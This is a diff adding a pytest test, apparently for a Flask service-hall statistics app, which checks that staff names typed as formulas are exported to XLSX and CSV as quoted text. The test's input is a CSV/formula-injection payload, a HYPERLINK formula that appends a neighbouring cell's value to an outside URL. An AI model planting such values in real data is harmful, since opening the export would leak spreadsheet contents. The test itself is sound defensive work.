@@ -18,6 +18,7 @@ import pytest
 from flask.testing import FlaskClient
 
 from server.models import ExtendedService, TicketEvent
+from server.stats_export import HEADER
 from tests.api.quality import RatingHall, err
 from tests.conftest import SHANGHAI
 
@@ -417,3 +418,19 @@ def test_a_clerk_with_only_finished_tickets_is_listed(rating_hall: RatingHall) -
     report = rh.h.staff("admin").get(f"/api/stats?date={DAY}").json
     [group] = report["by_clerk"]
     assert (group["key"], group["name"], group["served"], group["satisfaction_rate"]) == ("clerk1", "王小红", 1, 1.0)
+
+
+def test_staff_names_in_the_exports_stay_text_never_a_formula(rating_hall: RatingHall) -> None:
+    """Issue 14 (4): a display name or 工号 typed as a formula is written as text in stats.xlsx and stats.csv."""
+    rh = rating_hall
+    name, staff_no = '=HYPERLINK("http://e.cn/"&B6,"x")', "-1+2"
+    rh.h.hall.accounts.add_user("clerk1", "clerk", "clerk1-secret-pw", display_name=name, staff_no=staff_no)
+    rh.serve(rh.h.staff("clerk1", window=1), 1)
+    admin = rh.h.staff("admin")
+    sheet = openpyxl.load_workbook(io.BytesIO(admin.get(f"/api/stats.xlsx?date={DAY}").get_data()))["统计"]
+    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
+    [clerk_row] = [row for row in sheet.iter_rows(values_only=True) if row[0] == "工作人员"]
+    assert (clerk_row[1], clerk_row[2], clerk_row[HEADER.index("办结")]) == ("'" + name, "'" + staff_no, 1)
+    text = admin.get(f"/api/stats.csv?date={DAY}").get_data().decode("utf-8-sig")
+    [csv_row] = [row for row in csv.reader(io.StringIO(text)) if row and row[0] == "工作人员"]
+    assert (csv_row[1], csv_row[2], csv_row[HEADER.index("办结")]) == ("'" + name, "'" + staff_no, "1")
